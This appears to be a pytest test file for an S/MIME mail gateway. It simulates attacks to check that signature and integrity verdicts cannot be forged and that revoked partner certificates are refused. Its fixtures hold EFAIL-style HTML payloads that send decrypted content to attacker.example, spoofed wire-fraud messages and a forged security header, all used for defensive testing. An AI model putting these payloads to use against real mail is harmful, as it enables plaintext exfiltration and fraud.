"""S/MIME verdicts an outsider must not be able to forge (issues 21 and 23), written as the
attack: mail from an outside client address (127.0.0.2), made with the openssl CLI.
- a certificate of mallory@ that chains to a trusted anchor, on mail From: dora@ -> valid-other-signer;
- a certificate the instance CA issued and revoked -> signature=revoked (valid before);
- an encrypted multipart/mixed whose signed part is one of several -> signature=partial;
- AES-CBC without a valid signature inside -> integrity=none and no remote reference left;
  signed inside -> integrity=signed, untouched; AuthEnvelopedData -> integrity=aead;
- outbound: a partner certificate that its CRL (a local http.server) or its OCSP responder
  (openssl ocsp) calls revoked is never encrypted to; a responder that is down: soft proceeds
  with a log line, hard holds."""

import os
import re
import smtplib
import subprocess
import sys

import pytest

import sgrig
from sgrig import maildir_messages, wait_maildir
from test_smime_flow import OPENSSL, alice_receives, partner, partner_user, run, send, smime_gw  # noqa: F401

OUTSIDE = "127.0.0.2"
ATTACK_HTML = (b'<html><body><style>p{background:url(http://attacker.example/css)}</style>'
               b'<img src="h&#116;tp://attacker.example/obfuscated">'
               b'<a href="https://attacker.example/click">more</a>'
               b'<img src="http://attacker.example/x?'  # EFAIL: the quote swallows the rest
               b'<p>Quarterly figures</p></body></html>')


def crlf(b):
    return b.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def send_raw(gw, sender, data):
    with smtplib.SMTP("127.0.0.1", gw.port, timeout=30, source_address=(OUTSIDE, 0)) as s:
        s.sendmail(sender, ["alice@example.com"], data)


def trust_partner(gw, partner):
    r = gw.cli("ca", "trust", str(partner / "ca.crt"))
    assert r.returncode == 0, r.stderr
    gw.stop()
    gw.start()  # the queue manager reads ca.trust_anchors when it starts


def export_alice(gw, workdir):
    crt = workdir / "alice.crt"
    crt.write_text(gw.cli("cert", "export", "alice@example.com").stdout)
    return crt


def signed_entity(workdir, crt, key, content, sender=None, subject="signed"):
    """A multipart/signed message (CRLF) of content, signed by crt/key; without sender only the
    entity (MIME-Version, Content-Type, body), to be encrypted."""
    f = workdir / "content.txt"
    f.write_bytes(content)
    head = ["-from", sender, "-to", "alice@example.com", "-subject", subject] if sender else []
    return crlf(run(OPENSSL, "cms", "-sign", "-in", str(f), "-signer", str(crt), "-inkey", str(key),
                    "-md", "sha256", "-crlfeol", *head).stdout)


def mixed_with_signed_part(workdir, crt, key):
    """multipart/mixed: the attacker's text beside a genuine signed part ("Lunch at noon?")."""
    inner = signed_entity(workdir, crt, key, b"Content-Type: text/plain\r\n\r\nLunch at noon?\r\n")
    head, body = inner.split(b"\r\n\r\n", 1)
    ct = re.search(rb"^(Content-Type:.*(?:\r\n[ \t].*)*)", head, re.M | re.I).group(1)
    return (b"Content-Type: multipart/mixed; boundary=outer\r\n\r\n--outer\r\n"
            b"Content-Type: text/plain\r\n\r\nURGENT: wire EUR 90,000 to DE00 0000\r\n--outer\r\n"
            + ct + b"\r\n\r\n" + body + b"\r\n--outer--\r\n")


def encrypted(workdir, entity, to_crt, sender, cipher="-aes256", subject="encrypted to you"):
    f = workdir / "entity.eml"
    f.write_bytes(entity)
    return crlf(run(OPENSSL, "cms", "-encrypt", "-in", str(f), cipher, "-from", sender,
                    "-to", "alice@example.com", "-subject", subject, str(to_crt)).stdout)


def html_entity(html=ATTACK_HTML):
    return b"Content-Type: text/html; charset=us-ascii\r\n\r\n" + html + b"\r\n"


# ---- issue 21 defect 4: the signer's address must be the From address ---------------------

def test_foreign_signer_on_mail_from_another_address_is_not_valid(smime_gw, partner, workdir):
    trust_partner(smime_gw, partner)
    mallory_crt, mallory_key = partner_user(partner, "mallory")
    # signed by mallory (a certificate that chains to a trusted anchor), From: dora
    msg = signed_entity(workdir, mallory_crt, mallory_key,
                        b"Content-Type: text/plain\r\n\r\nPlease wire EUR 90,000 today. Dora\r\n",
                        "dora@partner.test")
    send_raw(smime_gw, "dora@partner.test", msg)
    raw, field = alice_receives(smime_gw)
    assert b"signature=valid-other-signer" in field, field
    assert b"signer=<mallory@partner.test>" in field
    assert not re.search(rb"signature=valid(;| )", field)
    # the same certificate on mail From its own address is valid
    box = os.path.join(smime_gw.md_int, "alice@example.com")
    msg = signed_entity(workdir, mallory_crt, mallory_key,
                        b"Content-Type: text/plain\r\n\r\nthis is mallory\r\n", "mallory@partner.test")
    send_raw(smime_gw, "mallory@partner.test", msg)
    wait_maildir(box, 2)
    fields = [re.search(rb"^X-Sealgate-Security: (.*)$", m, re.M).group(1)
              for m in maildir_messages(box)]
    assert any(re.search(rb"signature=valid; signer=<mallory@partner.test>", f) for f in fields), fields


def test_signature_inside_beside_unsigned_parts_is_partial(smime_gw, partner, workdir):
    trust_partner(smime_gw, partner)
    dora_crt, dora_key = partner_user(partner, "dora")
    mixed = mixed_with_signed_part(workdir, dora_crt, dora_key)
    send_raw(smime_gw, "dora@partner.test",
             encrypted(workdir, mixed, export_alice(smime_gw, workdir), "dora@partner.test"))
    raw, field = alice_receives(smime_gw)
    assert b"decrypted=yes" in field
    assert b"signature=partial" in field, field
    assert b"signature=valid" not in field


def test_signed_part_beside_unsigned_parts_at_the_top_is_partial(smime_gw, partner, workdir):
    """Not encrypted: a replayed genuine signed part under an attacker's multipart/mixed."""
    trust_partner(smime_gw, partner)
    dora_crt, dora_key = partner_user(partner, "dora")
    msg = (b"From: dora@partner.test\r\nTo: alice@example.com\r\nSubject: payment\r\n"
           b"MIME-Version: 1.0\r\nX-Sealgate-Security: signature=valid\r\n"
           + mixed_with_signed_part(workdir, dora_crt, dora_key))
    send_raw(smime_gw, "dora@partner.test", msg)
    raw, field = alice_receives(smime_gw)
    assert field.startswith(b"signature=partial"), field
    assert b"URGENT: wire EUR 90,000" in raw and b"Lunch at noon?" in raw  # as it came


# ---- issue 23 item 1: certificates the instance CA revoked ---------------------------------

def issued_key(gw, workdir, addr):
    """The certificate and key the instance CA issued for addr, as files (via the .pfx)."""
    assert gw.cli("cert", "issue", addr).returncode == 0
    crt, key, pfx = workdir / f"{addr}.crt", workdir / f"{addr}.key", workdir / f"{addr}.pfx"
    crt.write_text(gw.cli("cert", "export", addr).stdout)
    r = gw.cli("cert", "export", addr, "--pfx", str(pfx))
    assert r.returncode == 0, r.stderr
    pin = re.search(r"PIN[^:]*:\s*(\S+)", r.stdout + r.stderr).group(1)
    key.write_bytes(run(OPENSSL, "pkcs12", "-in", str(pfx), "-nocerts", "-nodes", "-passin",
                        f"pass:{pin}").stdout)
    return crt, key


def test_certificate_revoked_by_the_instance_ca_does_not_verify(smime_gw, workdir):
    crt, key = issued_key(smime_gw, workdir, "leaver@example.com")
    box = os.path.join(smime_gw.md_int, "alice@example.com")
    body = b"Content-Type: text/plain\r\n\r\nsigned with the laptop that was lost\r\n"
    send_raw(smime_gw, "leaver@example.com", signed_entity(workdir, crt, key, body,
                                                            "leaver@example.com"))
    raw, field = alice_receives(smime_gw)
    assert re.search(rb"signature=valid; signer=<leaver@example.com>", field), field
    r = smime_gw.cli("cert", "revoke", "leaver@example.com")
    assert r.returncode == 0, r.stderr
    # no reload needed: the queue manager reads ca/crl.pem again when it changes
    send_raw(smime_gw, "leaver@example.com", signed_entity(workdir, crt, key, body,
                                                            "leaver@example.com"))
    wait_maildir(box, 2)
    fields = [re.search(rb"^X-Sealgate-Security: (.*)$", m, re.M).group(1)
              for m in maildir_messages(box)]
    revoked = [f for f in fields if b"signature=revoked" in f]
    assert len(revoked) == 1 and b"instance CA revoked" in revoked[0], fields
    # and after a reload (a fresh queue manager) too
    smime_gw.stop()
    smime_gw.start()
    send_raw(smime_gw, "leaver@example.com", signed_entity(workdir, crt, key, body,
                                                            "leaver@example.com"))
    wait_maildir(box, 3)
    fields = [re.search(rb"^X-Sealgate-Security: (.*)$", m, re.M).group(1)
              for m in maildir_messages(box)]
    assert sum(b"signature=revoked" in f for f in fields) == 2, fields


# ---- issue 23 item 2: what protects decrypted content --------------------------------------

def test_unauthenticated_cbc_html_is_delivered_without_remote_references(smime_gw, partner, workdir):
    alice_crt = export_alice(smime_gw, workdir)
    send_raw(smime_gw, "dora@partner.test",
             encrypted(workdir, html_entity(), alice_crt, "dora@partner.test"))
    raw, field = alice_receives(smime_gw)
    assert b"decrypted=yes" in field and b"integrity=none" in field, field
    assert b"remote-content=neutralised" in field
    assert b"Quarterly figures" in raw
    assert not re.search(rb"(?<![-\w])(src|href)\s*=\s*[\"']?\s*(https?:|h&#)", raw, re.I), raw
    assert b"url(" not in raw.lower() and b"http://attacker.example" not in raw
    # opaque signed-data inside, by a signer nobody trusts: the scanner cannot see into it and
    # a mail client would unwrap it, so it stays encrypted
    eve_key, eve_crt = workdir / "eve.key", workdir / "eve.crt"
    run(OPENSSL, "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", str(eve_key), "-out",
        str(eve_crt), "-days", "30", "-subj", "/CN=eve", "-addext",
        "subjectAltName=email:dora@partner.test")
    (workdir / "html.txt").write_bytes(html_entity())
    opaque = crlf(run(OPENSSL, "cms", "-sign", "-nodetach", "-in", str(workdir / "html.txt"),
                      "-signer", str(eve_crt), "-inkey", str(eve_key), "-md", "sha256").stdout)
    send_raw(smime_gw, "dora@partner.test", encrypted(workdir, opaque, alice_crt,
                                                      "dora@partner.test", subject="opaque"))
    box = os.path.join(smime_gw.md_int, "alice@example.com")
    wait_maildir(box, 2)
    kept = [m for m in maildir_messages(box) if b"opaque signed data" in m]
    assert len(kept) == 1 and b"decrypted=no" in kept[0] and b"integrity=none" in kept[0]
    # policy.cbc_unsigned = keep-encrypted: delivered as it came
    smime_gw.set(**{"policy.cbc_unsigned": "keep-encrypted"})
    smime_gw.stop()
    smime_gw.start()
    send_raw(smime_gw, "dora@partner.test",
             encrypted(workdir, html_entity(), alice_crt, "dora@partner.test"))
    wait_maildir(box, 3)
    kept = [m for m in maildir_messages(box) if b"keep-encrypted" in m]
    assert len(kept) == 1 and b"application/pkcs7-mime" in kept[0]
    assert b"decrypted=no" in kept[0] and b"Quarterly figures" not in kept[0]


def test_signed_inside_cbc_is_integrity_signed_and_untouched(smime_gw, partner, workdir):
    trust_partner(smime_gw, partner)
    dora_crt, dora_key = partner_user(partner, "dora")
    inner = signed_entity(workdir, dora_crt, dora_key, html_entity())
    send_raw(smime_gw, "dora@partner.test",
             encrypted(workdir, inner, export_alice(smime_gw, workdir), "dora@partner.test"))
    raw, field = alice_receives(smime_gw)
    assert b"integrity=signed" in field and b"signature=valid;" in field, field
    assert b'<img src="http://attacker.example/x?' in raw  # the signer's content, as signed


def test_authenveloped_data_is_integrity_aead(smime_gw, workdir):
    send_raw(smime_gw, "dora@partner.test",
             encrypted(workdir, html_entity(), export_alice(smime_gw, workdir), "dora@partner.test",
                       cipher="-aes-256-gcm"))
    raw, field = alice_receives(smime_gw)
    assert b"decrypted=yes" in field and b"integrity=aead" in field, field
    assert b'<img src="http://attacker.example/x?' in raw


# ---- issue 23 item 1, outbound: partners' certificates revoked by their CA -----------------

class PartnerCA:
    """The partner's CA as `openssl ca` keeps it: an index of revocations, a CRL served by
    http.server, an OCSP responder (openssl ocsp); bob's certificate names the URLs given."""

    def __init__(self, d):
        self.d = d
        (d / "index.txt").write_text("")
        (d / "crlnumber").write_text("01\n")
        (d / "ca.cnf").write_text(
            f"[ca]\ndefault_ca = CA_default\n[CA_default]\ndir = {d}\ndatabase = {d}/index.txt\n"
            f"crlnumber = {d}/crlnumber\ndefault_md = sha256\ndefault_crl_days = 1\n"
            f"certificate = {d}/ca.crt\nprivate_key = {d}/ca.key\n")
        self.procs = []

    def bob(self, ext_lines):
        d = self.d
        (d / "bob2.cnf").write_text(
            "[user]\nbasicConstraints=CA:FALSE\nkeyUsage=digitalSignature,keyEncipherment\n"
            "extendedKeyUsage=emailProtection\nsubjectAltName=email:bob@partner.test\n"
            + "".join(line + "\n" for line in ext_lines))
        run(OPENSSL, "x509", "-req", "-in", str(d / "bob.csr"), "-CA", str(d / "ca.crt"),
            "-CAkey", str(d / "ca.key"), "-CAcreateserial", "-out", str(d / "bob2.crt"),
            "-days", "30", "-extfile", str(d / "bob2.cnf"), "-extensions", "user")
        return d / "bob2.crt"

    def revoke(self, crt):
        run(OPENSSL, "ca", "-config", str(self.d / "ca.cnf"), "-revoke", str(crt))
        run(OPENSSL, "ca", "-config", str(self.d / "ca.cnf"), "-gencrl", "-out",
            str(self.d / "crl.pem"))
        run(OPENSSL, "crl", "-in", str(self.d / "crl.pem"), "-outform", "DER", "-out",
            str(self.d / "www" / "partner.crl"))

    def serve(self, argv, port, ready=None):
        """Starts a server; waits for its ready line (openssl ocsp serves one connection at a
        time and stalls on an empty probe) or else for its port."""
        out = self.d / f"server-{port}.log"
        with open(out, "wb") as f:
            p = subprocess.Popen(argv, stdout=f, stderr=subprocess.STDOUT)
        self.procs.append(p)
        if ready:
            sgrig.wait_for(lambda: ready in out.read_text(errors="replace"), 20,
                           what=f"{argv[0]} ready")
        else:
            sgrig.wait_for(lambda: sgrig.port_open(port), 20, what=f"{argv[0]} on {port}")

    def stop(self):
        for p in self.procs:
            p.terminate()
            try:
                p.wait(10)
            except subprocess.TimeoutExpired:
                p.kill()


@pytest.fixture
def partner_ca(partner):
    (partner / "www").mkdir()
    ca = PartnerCA(partner)
    yield ca
    ca.stop()


def outbound_to_bob(gw, partner, crt, mode, workdir):
    """bob's certificate imported, the partner CA trusted, smime.revocation_check = mode; one
    tagged mail from alice to bob. Returns bob's mailbox path."""
    r = gw.cli("cert", "import", "bob@partner.test", str(crt))
    assert r.returncode == 0, r.stderr
    assert gw.cli("ca", "trust", str(partner / "ca.crt")).returncode == 0
    gw.set(**{"smime.revocation_check": mode})
    gw.stop()
    gw.start()
    send(gw.port, ["bob@partner.test"], "[secure] figures", body="secret figures: 42\r\n")
    return os.path.join(gw.md_ext, "bob@partner.test")


def encrypted_to_bob(box):
    return [m for m in maildir_messages(box) if b"application/pkcs7-mime" in m]


def test_partner_certificate_listed_in_its_crl_is_not_encrypted_to(gateway, partner, partner_ca,
                                                                  workdir):
    port = sgrig.free_port()
    crt = partner_ca.bob([f"crlDistributionPoints=URI:http://127.0.0.1:{port}/partner.crl"])
    partner_ca.revoke(crt)
    partner_ca.serve([sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1",
                      "--directory", str(partner / "www")], port)
    # with the check off, the revoked certificate is used: what this test guards against
    box = outbound_to_bob(gateway, partner, crt, "off", workdir)
    wait_maildir(box, 1)
    assert len(encrypted_to_bob(box)) == 1
    gateway.set(**{"smime.revocation_check": "soft"})
    gateway.stop()
    gateway.start()
    send(gateway.port, ["bob@partner.test"], "[secure] figures 2", body="secret figures: 43\r\n")
    gateway.wait_log(r"certificate \S+ of bob@partner.test is revoked \(listed in the CRL "
                     rf"http://127.0.0.1:{port}/partner.crl\): mail is not encrypted to it")
    gateway.wait_log(r"to=<bob@partner.test>.*status=held")
    assert len(encrypted_to_bob(box)) == 1  # still only the one from before
    assert not any(b"secret figures: 43" in m for m in maildir_messages(box))


def test_partner_certificate_revoked_by_ocsp_is_not_encrypted_to(gateway, partner, partner_ca,
                                                                 workdir):
    port = sgrig.free_port()
    crt = partner_ca.bob([f"authorityInfoAccess=OCSP;URI:http://127.0.0.1:{port}/"])
    partner_ca.revoke(crt)
    partner_ca.serve([OPENSSL, "ocsp", "-index", str(partner / "index.txt"), "-port",
                      str(port), "-rsigner", str(partner / "ca.crt"), "-rkey",
                      str(partner / "ca.key"), "-CA", str(partner / "ca.crt")], port,
                     ready="waiting for OCSP client connections")
    box = outbound_to_bob(gateway, partner, crt, "soft", workdir)
    gateway.wait_log(r"of bob@partner.test is revoked \(revoked, says the OCSP responder "
                     rf"http://127.0.0.1:{port}/\)")
    gateway.wait_log(r"to=<bob@partner.test>.*status=held")
    assert encrypted_to_bob(box) == []


@pytest.mark.parametrize("mode", ["soft", "hard"])
def test_responder_down_soft_proceeds_hard_holds(gateway, partner, partner_ca, workdir, mode):
    port = sgrig.free_port()  # nobody listens there
    crt = partner_ca.bob([f"authorityInfoAccess=OCSP;URI:http://127.0.0.1:{port}/"])
    box = outbound_to_bob(gateway, partner, crt, mode, workdir)
    gateway.wait_log(r"revocation status of certificate \S+ of bob@partner.test unknown "
                     rf"\(no answer from the OCSP responder http://127.0.0.1:{port}/\); "
                     rf"smime.revocation_check = {mode}")
    if mode == "soft":
        wait_maildir(box, 1)
        assert len(encrypted_to_bob(box)) == 1
        assert "encrypting to it anyway" in gateway.log()
    else:
        gateway.wait_log(r"to=<bob@partner.test>.*status=held")
        assert encrypted_to_bob(box) == []
